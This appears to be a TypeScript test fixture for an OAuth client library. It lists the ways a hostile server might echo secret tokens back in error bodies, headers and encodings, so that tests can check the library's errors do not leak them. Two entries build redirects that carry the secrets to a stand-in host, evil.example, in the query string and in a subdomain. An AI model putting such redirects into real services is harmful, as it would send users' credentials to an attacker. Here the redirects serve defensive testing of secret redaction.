import type { Reply } from '../support/server.js';
import type { Echo } from './eavesdropper.js';

/** A new secret in a response, which an error caused by that response must not show. */
export const FRESH_SECRET = 'fresh-secret-of-a-hostile-network-0123456789';

type Spelling = (secret: string) => string;

/** The spellings in which a server may echo what it was sent. */
export const SPELLINGS: Readonly<Record<string, Spelling>> = {
  plain: (secret) => secret,
  'percent-encoded': encodeURIComponent,
  'form-encoded': (secret) => new URLSearchParams([['', secret]]).toString().slice(1),
  base64: (secret) => Buffer.from(secret).toString('base64'),
  base64url: (secret) => Buffer.from(secret).toString('base64url'),
  'interspersed with zero-width spaces': (secret) => secret.split('').join('\u200b'),
  'in control characters': (secret) => secret.split('').join('\u0007'),
};

const described = (echoed: string) => ({ error: 'invalid_grant', error_description: echoed });
const nested = (echoed: string, code: unknown) => ({
  code: echoed,
  message: echoed,
  log_id: echoed,
  error_code: code,
  error_msg: echoed,
});

/** The places in an error response that may echo a string; each network reads some of them. */
const PLACES: Readonly<Record<string, (echoed: string) => Reply>> = {
  'an error_description with 400': (echoed) => ({ status: 400, body: described(echoed) }),
  'an error_description with 200': (echoed) => ({ body: described(echoed) }),
  'an error code': (echoed) => ({ status: 401, body: { error: echoed, log_id: echoed } }),
  'a nested error': (echoed) => ({ status: 401, body: { error: nested(echoed, 5), data: {} } }),
  'a nested error with 200': (echoed) => ({
    body: {
      error: { ...nested(echoed, echoed), request_params: [{ key: 'access_token', value: echoed }] },
    },
  }),
  'a list of errors': (echoed) => ({
    status: 403,
    body: { errors: [{ code: 89, message: echoed }, { message: echoed }] },
  }),
  'a problem': (echoed) => ({
    status: 403,
    body: { title: echoed, detail: echoed, type: `https://problems.example/${echoed}` },
  }),
  'XML with a code': (echoed) => ({
    status: 401,
    body: `<?xml version="1.0"?><errors><error code="32">${echoed}</error></errors>`,
  }),
  'XML without a code': (echoed) => ({ status: 401, body: `<hash><error>${echoed}</error></hash>` }),
  'a short sentence': (echoed) => ({ status: 401, body: echoed.slice(0, 200).replace(/ [^ ]*$/, '') }),
  'a page': (echoed) => ({ status: 500, body: `<html><p>${echoed}</p></html>` }),
};

/** Other hostile responses. */
const OTHERS: Readonly<Record<string, Echo>> = {
  'a page with 200': (secrets) => ({ body: `<html><p>${secrets.join('<br>')}</p></html>` }),
  'a redirect to a URL with the secrets': (secrets) => ({
    status: 302,
    headers: { location: `https://evil.example/?${secrets.map(encodeURIComponent).join('&')}` },
  }),
  'a redirect to a host with a secret': ([secret = '']) => ({
    status: 307,
    headers: { location: `https://${secret.replace(/[^a-zA-Z0-9-]/g, '-')}.evil.example/` },
  }),
  'headers with the secrets': (secrets) => ({
    status: 429,
    headers: { 'x-tt-logid': secrets.join(' '), 'retry-after': secrets.join(' ') },
    body: { error: { code: 'rate_limit_exceeded' } },
  }),
  'a JSON string': (secrets) => ({ body: JSON.stringify(secrets.join(' ')) }),
  'a JSON array': (secrets) => ({ body: JSON.stringify(secrets) }),
  'truncated JSON': (secrets) => ({ body: `{"error":"${secrets.join(' ')}` }),
  'a token next to an error that names it': () => ({
    status: 400,
    body: { error: 'invalid_grant', error_description: `not ${FRESH_SECRET}`, access_token: FRESH_SECRET },
  }),
  'a token deep inside an error that names it': () => ({
    body: {
      error: { code: 'x', message: FRESH_SECRET, error_msg: FRESH_SECRET, info: { token: FRESH_SECRET } },
    },
  }),
  'token credentials with 401': () => ({
    status: 401,
    body: `oauth_token=${FRESH_SECRET}&oauth_token_secret=${FRESH_SECRET}`,
  }),
  'a token of an unknown type': (secrets) => ({
    body: { access_token: FRESH_SECRET, token_type: secrets.join(' ') },
  }),
};

/** Every way in which a hostile network may echo the secrets. */
export const ECHOES: Readonly<Record<string, Echo>> = {
  ...OTHERS,
  ...Object.fromEntries(
    Object.entries(PLACES).map(([place, reply]): [string, Echo] => [
      `${place}, plain`,
      (secrets) => reply(secrets.join(' ')),
    ]),
  ),
  ...Object.fromEntries(
    Object.entries(SPELLINGS).map(([title, spell]): [string, Echo] => [
      `every known place at once, ${title}`,
      (secrets) => everywhere(secrets.map(spell).join(' ')),
    ]),
  ),
};

/** One response that every strategy reads as an error response with the string in it. */
function everywhere(echoed: string): Reply {
  return {
    status: 401,
    body: {
      error: { ...nested(echoed, 5), code: 'x' },
      errors: [{ code: 89, message: echoed }],
    },
  };
}
